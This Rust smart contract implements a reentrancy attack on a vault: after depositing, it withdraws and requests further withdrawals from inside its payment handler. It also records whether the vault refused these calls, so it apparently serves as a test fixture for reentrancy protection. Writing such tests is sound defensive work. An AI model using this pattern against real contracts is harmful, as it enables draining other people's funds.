//! A contract that tries to take a deposit out of a vault twice: when it is paid, it asks again.

#![cfg_attr(target_arch = "wasm32", no_std)]

use hebe_sdk::{call::OrRevert, prelude::*};

/// The vault's functions that an attack needs.
#[interface]
trait Vault {
    fn withdraw(&mut self, value: u128);
    fn withdraw_late(&mut self, value: u128);
}

/// What is stored.
#[storage]
pub struct Attacker {
    vault: Slot<Address>,
    /// Which function is attacked.
    late: Slot<bool>,
    /// How often to ask again.
    again: Slot<u8>,
    value: Slot<u128>,
    /// Payments that came.
    paid: Slot<u32>,
    /// Whether a call from within a payment was refused.
    refused: Slot<bool>,
}

#[contract]
impl Attacker {
    /// Deposits what comes along in the vault, takes it out, and asks `again` times more while being paid.
    #[payable]
    pub fn attack(&mut self, vault: Address, late: bool, again: u8) {
        let value = message::value();
        self.vault.set(vault);
        self.late.set(late);
        self.again.set(again);
        self.value.set(value);
        // deposit()
        Call::to(vault).value(value).send(&[0xd0, 0xe3, 0x0d, 0xb0]).or_revert();
        self.withdraw(value).or_revert();
    }

    /// How many payments came, and whether one that was asked for in another was refused.
    pub fn outcome(&self) -> (u32, bool) {
        (self.paid.get(), self.refused.get())
    }

    #[receive]
    fn paid(&mut self) {
        let paid = self.paid.get() + 1;
        self.paid.set(paid);
        let again = self.again.get();
        if again > 0 {
            self.again.set(again - 1);
            let value = self.value.get();
            if self.withdraw(value).is_err() {
                self.refused.set(true);
            }
        }
    }

    fn withdraw(&self, value: u128) -> Result<(), call::CallError> {
        let mut vault = Vault(self.vault.get());
        if self.late.get() { vault.withdraw_late(value) } else { vault.withdraw(value) }
    }
}
